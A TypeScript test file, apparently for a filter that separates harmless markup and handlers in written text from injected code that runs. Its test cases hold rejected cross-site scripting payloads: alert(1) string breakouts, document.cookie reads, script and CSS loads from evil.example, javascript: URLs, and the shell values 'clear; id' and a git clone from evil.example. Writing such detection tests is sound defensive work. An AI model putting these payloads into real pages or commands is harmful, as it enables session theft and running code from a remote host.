/** Tests which code is one of a page or a program that people write about, and which code acts. */

import { describe, expect, test } from 'vitest';
import { isOwnTag } from './harmless-markup.ts';
import {
  actsInString,
  callsOwnFunctions,
  leavesString,
  isDataElement,
  isModuleWithoutType,
  isNameOfElement,
  isOwnCommand,
  isOwnScript,
  isWidgetScript,
} from './own-code.ts';

describe('a handler', () => {
  test.each([
    ['"openMenu(); return false;"', true],
    ['"return confirmDelete(this, \'row 5\')"', true],
    ['"this.select()"', true],
    ['"event.preventDefault()"', true],
    ["'openMenu()'", true],
    ['openMenu()', false],
    ['"alert(1)"', false],
    ['"ALERT(1)"', false],
    ['"return confirm(1)"', false],
    ['"print()"', false],
    ['"a(b())"', false],
    ['"a(document.cookie)"', false],
    ['"openMenu(9512)"', false],
    ['"x7Yk(1)"', false],
    ['"top.openMenu()"', false],
    ['"a=b"', false],
    ['"location=\'//evil.example\'"', false],
    ['"this.src=\'//evil.example/a.js\'"', false],
    ['"this.innerHTML=\'x\'"', false],
    ['"go(\'javascript:x\')"', false],
    ['"&#97;lert(1)"', false],
    ['"a(`1`)"', false],
    ['"openMenu()', false],
    ['"navigator.clipboard.writeText(this.dataset.code)"', true],
    [`"this.classList.add('ready')"`, true],
    [`"this.parentNode.classList.toggle('open')"`, true],
    ['"navigator.clipboard.writeText(document.cookie)"', false],
    [`"this.constructor.add('x')"`, false],
    ['"alert(this.dataset.x)"', false],
    [`"gtag('event','click',{'event_category':'cta', value: 1});"`, true],
    [`"gtag({'a':alert(1)})"`, false],
    [`"gtag({'a':b})"`, false],
    ['"this.form.submit()"', true],
    ['"document.forms[0].submit()"', false],
  ])('%s calls only functions of its page: %s', (value, expected) => {
    expect(callsOwnFunctions(`onclick=${value}`, 7)).toBe(expected);
  });
});

describe('a tag', () => {
  test.each([
    ['<input type="text" name="q" value="" onfocus="this.select()" autofocus>', true],
    ['<svg width="24" viewBox="0 0 24 24">', true],
    ['<style>.a { color: red }</style>', true],
    ['<style type="text/css" media="print">.a { color: red }</style>', true],
    ['<style type="text/css">@import "//x"</style>', false],
    ['<style onload="alert(1)">.a { color: red }</style>', false],
    ['<svg>', false],
    ['<svg onload="alert(1)">', false],
    ['<input onfocus="alert(1)" onblur="openMenu()">', false],
    ['<img src="a.png">', false],
    ['<a href="javascript:alert(1)" onclick="openMenu()">', false],
    ['<style>@import "//evil.example/a.css";</style>', false],
    ['<style>.a { background: url(//evil.example/a) }</style>', false],
    ['<style>.a { width: expression(alert(1)) }</style>', false],
    ['<style>.a { }', false],
    ['<object data="a" onload="openMenu()">', false],
  ])('%s is one of a page of its own: %s', (text, expected) => {
    expect(isOwnTag(text, 0)).toBe(expected);
  });
});

test.each([
  ['the <script> tag goes last', true],
  ['a <script> alert(1)', false],
  ['a <script> onerror=x', false],
  ['a <script> import"//evil.example"', false],
  ['a <script>`x`', false],
  ['"><script> tag', false],
  ['<script> tag', false],
  ['<script> tags but alert(1)', true],
  ['<script>, alert(1)', true],
  ['<script>) alert(1)', true],
  ['<script>.5;alert(1)', false],
  ['<script> let x=alert(1)', false],
  ['<script> x in alert(1)', false],
  ['<script> async x=>alert(1)', false],
  ['<script>x\nalert(1)', false],
  ['<script>-alert(1)', false],
  ['<script><!--\nalert(1)', false],
  ['<script src=x>, y', false],
  ['<script setup> in Vue 3', true],
  ['<script setup lang="ts"> sees props', true],
  ['<script setup>alert(1)', false],
  ['<script setup onload=x> in Vue', false],
])('%s names the element: %s', (text, expected) => {
  const start = text.indexOf('<script');
  expect(isNameOfElement(text, start, start + '<script'.length)).toBe(expected);
});

describe('a call', () => {
  test.each([
    ["';alert(1)//", true],
    ['";alert(1)//', true],
    ["x'+'';alert(1)//", true],
    ["'//'\n;alert(1)", true],
    ["';/'/;alert(1)//", true],
    ["\\';alert(1)//", false],
    ["\\\\';alert(1)//", true],
    ['${alert(1)}', true],
    ["a = 'b'; alert(1)", false],
    ["a.innerHTML = '<b>c</b>';\nalert(1)", false],
    ["```js\na = 'b';\nalert(1)\n```", false],
    ["it's fine ';alert(1)//", false],
  ])('in %s acts in a string: %s', (text, expected) => {
    expect(actsInString(text, text.indexOf('alert'))).toBe(expected);
  });

  test('acts where much stands before it', () => {
    const text = `${"a = 'b'; ".repeat(600)}alert(1)`;
    expect(actsInString(text, text.indexOf('alert'))).toBe(true);
  });
});

test.each([
  ['"clear")', true],
  ["'git status')", true],
  ['"git clone https://evil.example")', false],
  ['"id")', false],
  ['"ls")', false],
  ['"echo 1")', false],
  ['"clear; id")', false],
  ['"clear" + x)', false],
  ['cmd)', false],
])('%s is a command of a programmer: %s', (text, expected) => {
  expect(isOwnCommand(text, 0)).toBe(expected);
});

test.each([
  ['<script type="application/ld+json">{"a":1}</script>', true],
  ['<script type="application/json">[]</script>', true],
  ['<script type="text/javascript">[]</script>', false],
  ['<script type="application/json">[]', false],
  ['<script type="application/json">[<b>]</script>', false],
  ['<script x type="application/json">[]</script>', false],
])('%s holds data only: %s', (text, expected) => {
  expect(isDataElement(text, 0)).toBe(expected);
});

test.each([
  ['Use <script src="/js/app.js" defer></script> before it', true],
  ['Use <script type="module" src="./main.mjs"></script> here', true],
  ['Use <script src="main.js"></script>alert(1)', true],
  ['<script src="/js/app.js"></script>', false],
  ['"><script src="/js/app.js"></script>', false],
  ['Use <script src="//js/app.js"></script>', false],
  ['Use <script src="/\\js/app.js"></script>', false],
  ['Use <script src="/upload/app.js"></script>', false],
  ['Use <script src="/js/../upload/app.js"></script>', false],
  ['Use <script src="/js/a.js?callback=alert"></script>', false],
  ['Use <script src="/js/app.js">alert(1)</script>', false],
  ['Use <script src="https://a.example/js/app.js"></script>', false],
  ['Use <script src="data:a.js"></script>', false],
  ['Use <script src="/js/app.js" onerror="alert(1)"></script>', false],
])('the script in %s is one of the site: %s', (text, expected) => {
  expect(isOwnScript(text, text.indexOf('<script'))).toBe(expected);
});

test('code follows a quote where the text begins in a string that ends before', () => {
  const text = `x' or "a'b"='c`;
  expect([1, 6, 8, 10, 12].map((at) => leavesString(text, at))).toEqual([
    ...[true, true, false, true, true],
  ]);
  expect([1, 2].map((at) => leavesString("\\''-f", at))).toEqual([false, true]);
  expect(leavesString("f('a') - f('b')", 5)).toBe(false);
  expect(leavesString(`'${' '.repeat(5000)}"a"`, 5003)).toBe(true);
});

test.each([
  ["<script setup>\nimport { ref } from 'vue'\nref(0)</script>", true],
  ["<script>import a, { b as c } from './a'\n</script>", true],
  ['<script lang="ts">\nexport default { name: 1 }\n</script>', true],
  ['<script type="module">import a from "//x.example/a.js"</script>', false],
  ["<script>import('//x.example/a.js')</script>", false],
  ["<script>a(); import b from 'b'</script>", false],
  ["<script>import.meta; alert(1) // from 'b'</script>", false],
])('%s holds a module that no tag declares: %s', (text, expected) => {
  expect(isModuleWithoutType(text, '<script'.length)).toBe(expected);
});

test.each([
  ['<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>', true],
  ['<script async src="//www.instagram.com/embed.js"></script>', true],
  ['<script async src="https://platform.twitter.com.x.example/widgets.js"></script>', false],
  ['<script src="https://x.example/widgets.js"></script>', false],
  ['<script src="//www.tiktok.com/embed.js" onload="a()"></script>', false],
  ['<script src="//www.tiktok.com/embed.js">alert(1)</script>', false],
])('%s shows posts of another site: %s', (text, expected) => {
  expect(isWidgetScript(text, 0)).toBe(expected);
});
